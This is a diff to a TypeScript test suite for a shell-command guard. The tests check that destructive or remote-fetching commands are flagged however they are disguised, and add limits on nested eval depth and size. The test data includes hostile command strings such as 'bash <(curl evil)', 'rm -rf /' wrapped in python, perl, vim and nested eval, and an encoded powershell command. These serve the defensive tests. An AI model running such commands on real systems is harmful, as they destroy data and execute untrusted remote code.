@@ -127,7 +127,7 @@ describe('B20: a guard finds a command however it is written', () => {
     ['a script from a file descriptor', 'bash <(curl evil)'],
     ['a script from input', 'bash < x'],
     ['another language that names it', `python3 -c "import os; os.system('rm -rf /')"`],
-    ['an editor that names it', "vim -c ':!rm -rf /'"],
+    ['an editor that names it', "vim -c ':r !rm -rf /'"],
     ['another language in a here-document', 'perl <<E\nsystem "rm -rf /"\nE'],
     ['an encoded command', 'powershell -enc cgBtAA=='],
     ['a text in a text in a text', `eval ${'"eval '.repeat(9)}`],
@@ -215,7 +215,21 @@ describe('what a guard looks for', () => {
     expect(guard(long(limits.maxShellBytes))).toBe('false')
     expect(guard(long(limits.maxShellBytes + 1))).toBe('indeterminate')
     expect(guard(['ls', 'a'.repeat(limits.maxShellBytes)])).toBe('indeterminate')
-    expect(guard(`eval ${'"ls a" '.repeat(2800)}`)).toBe('indeterminate')
+  })
+
+  test('texts inside of texts are bounded in depth, and all together', () => {
+    const inside = (levels: number, text: string): string =>
+      levels === 0
+        ? text
+        : `eval "${inside(levels - 1, text).replaceAll(/["\\]/g, String.raw`\$&`)}"`
+    expect(guard(inside(7, 'ls a'))).toBe('false')
+    expect(guard(inside(7, 'rm -rf /'))).toBe('true')
+    expect(guard(inside(9, 'ls a'))).toBe('indeterminate')
+    const half = `ls ${'a'.repeat(limits.maxShellBytes / 2)}`
+    expect(guard(inside(6, half))).toBe('false')
+    const whole = `ls ${'a'.repeat(limits.maxShellBytes - 1000)}`
+    expect(guard(inside(3, whole))).toBe('false')
+    expect(guard(inside(5, whole))).toBe('indeterminate')
   })
 })
 
